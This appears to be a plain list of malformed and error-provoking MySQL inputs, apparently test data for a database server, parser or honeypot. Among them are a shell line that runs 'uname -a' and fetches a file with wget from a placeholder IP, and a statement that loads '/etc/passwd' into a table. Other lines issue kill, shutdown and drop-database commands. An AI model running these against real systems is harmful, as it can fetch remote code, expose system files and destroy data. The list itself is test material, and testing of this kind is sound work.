selec 1
select
select 1 from
select * from nosuch
select nosuch
select nosuch()
select a.b
select a.b.c
select `a`
select mysql.a()
select * from mysql.nosuch
select * from nosuchdb.nosuch
select 'abc
select "abc
select 1,
select (1
select 1)
select *
show
show foo
show variables foo
use
set
set names
set names nosuch
set global nosuch=1
set version=1
select @@nosuch
kill 99999
shutdown foo
call foo()
call mysql.foo()
exit
quit
\q
id
GET / HTTP/1.1
uname -a; wget http://192.0.2.1/x
delete from mysql.nosuch
update nosuch set a=1
insert into nosuch values(1)
truncate table nosuch
alter table nosuch add a int
create table a (b int)
show tables from nosuch
drop database mysql2
drop database information_schema
create database information_schema
drop table nosuch
drop table mysql.nosuch
select md5()
select 1 union select 1,2
load data local infile '/etc/passwd' into table mysql.func
